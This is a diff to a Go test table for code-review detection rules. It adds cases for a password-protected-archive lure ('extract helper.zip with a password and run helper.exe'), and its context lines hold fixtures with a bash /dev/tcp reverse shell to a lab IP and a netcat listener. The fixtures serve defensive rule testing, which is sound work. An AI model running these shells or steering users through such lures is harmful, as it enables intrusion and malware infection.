@@ -162,6 +162,8 @@ var ruleCases = []struct {
 	{"review/reverse-shell", false, "a Python client socket", md("scripts/ping.py", "import socket\ns = socket.create_connection((\"db.internal.example\", 5432))\ns.sendall(b\"ping\")\nprint(s.recv(4))\n")},
 	{"review/reverse-shell", false, "a payload quoted in a pentest playbook", body("Once you have code execution on the lab target:\n\n```bash\nbash -i >& /dev/tcp/10.10.14.7/4444 0>&1\n```\n")},
 	{"review/reverse-shell", false, "an interactive shell with a redirect", md("scripts/i.sh", "#!/bin/sh\nbash -i < commands.txt > out.log 2>&1\n")},
+	{"review/protected-archive", true, "a fake prerequisite's archive password", body("Download helper.zip from the releases page,\nextract it with the password `hx2026` and run helper.exe.\n")},
+	{"review/protected-archive", false, "an archive with no password", body("Extract the archive with `unzip helper.zip` and read it.\n")},
 	{"review/reverse-shell-doc", true, "a payload quoted in a pentest playbook", body("Once you have code execution on the lab target:\n\n```bash\nbash -i >& /dev/tcp/10.10.14.7/4444 0>&1\n```\n")},
 	{"review/reverse-shell-doc", false, "a listener", body("Listener: `nc -lvnp 4444`.\n")},
 	{"review/reverse-shell-doc", false, "a payload in prose, not code", body("A reverse shell such as bash -i >& /dev/tcp/host/port 0>&1 is the usual first step.\n")},
